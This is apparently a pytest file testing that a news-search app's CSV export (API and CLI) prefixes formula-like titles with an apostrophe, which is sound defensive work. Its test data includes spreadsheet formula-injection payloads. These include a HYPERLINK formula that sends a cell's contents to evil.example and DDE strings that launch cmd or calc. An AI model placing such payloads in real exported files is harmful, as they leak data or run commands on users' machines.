"""CSV export safety: hostile titles never reach a spreadsheet as formulas (API and CLI)."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest

from search import build_index
from search.export import csv_cells, spreadsheet_safe
from web import create_app

HOSTILE_TITLES = [
    '=HYPERLINK("http://evil.example/?x="&A1,"انقر هنا")',
    "+cmd|' /C calc'!A0 توقيف خلية",
    "-2+3+cmd|' /C notepad'!'A1'",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1 tab first",
    "\r=1+1 carriage return first",
    "＝1+1 full-width equals",
]


@pytest.mark.parametrize("title", HOSTILE_TITLES)
def test_formula_starts_get_an_apostrophe(title):
    assert spreadsheet_safe(title) == "'" + title


@pytest.mark.parametrize(
    "value",
    ["أَعْلَنَت الشرطة", "l'armée = police", "2020-03-02", "Nador - Melilla", "", "٢٠١٥", "email a@b.c"],
)
def test_ordinary_cells_are_unchanged(value):
    assert spreadsheet_safe(value) == value


def test_none_and_numbers():
    assert spreadsheet_safe(None) == "" and spreadsheet_safe(1.5) == "1.5" and spreadsheet_safe(-1) == "'-1"
    assert csv_cells({"a": "=1", "b": None}, ["b", "a"]) == ["", "'=1"]


@pytest.fixture(scope="module")
def hostile_index(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("hostile")
    lines = [
        {
            "id": f"evil-{n}",
            "title": title,
            "date_iso": f"2020-09-{n + 1:02d}T10:00:00",
            "outlet": "=Outlet",
            "lang": "ar",
            "text": f"أوقفت الشرطة بمدينة طنجة خلية إرهابية رقم {n} وحجزت أسلحة.",
        }
        for n, title in enumerate(HOSTILE_TITLES)
    ]
    (folder / "evil.jsonl").write_text(
        "\n".join(json.dumps(x, ensure_ascii=False) for x in lines) + "\n", encoding="utf-8"
    )
    path = tmp_path_factory.mktemp("ix") / "hostile"
    build_index(folder, path)
    return path


def _check_rows(rows: list[dict[str, str]]) -> None:
    assert len(rows) == len(HOSTILE_TITLES)
    for row in rows:
        for column, cell in row.items():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r", "＝")), (column, cell)
        assert row["outlet"] == "'=Outlet"
    titles = {r["title"].lstrip("'").strip() for r in rows}
    assert titles == {t.strip() for t in HOSTILE_TITLES}  # nothing lost but the apostrophe


def test_api_csv_export_neutralises_hostile_titles(hostile_index):
    client = create_app({"INDEX_PATH": str(hostile_index), "TESTING": True}).test_client()
    text = client.get("/api/v1/export.csv?sort=oldest").get_data(as_text=True)
    _check_rows(list(csv.DictReader(io.StringIO(text.lstrip("\ufeff")))))
    # JSON Lines is data for programs: values as they are.
    first = json.loads(client.get("/api/v1/export.jsonl?sort=oldest").get_data(as_text=True).splitlines()[0])
    assert first["title"] == HOSTILE_TITLES[0]


def test_cli_csv_export_neutralises_hostile_titles(hostile_index, capsys):
    from search.cli import main

    assert main(["search", "--index", str(hostile_index), "--format", "csv", "--sort", "oldest"]) == 0
    _check_rows(list(csv.DictReader(io.StringIO(capsys.readouterr().out))))
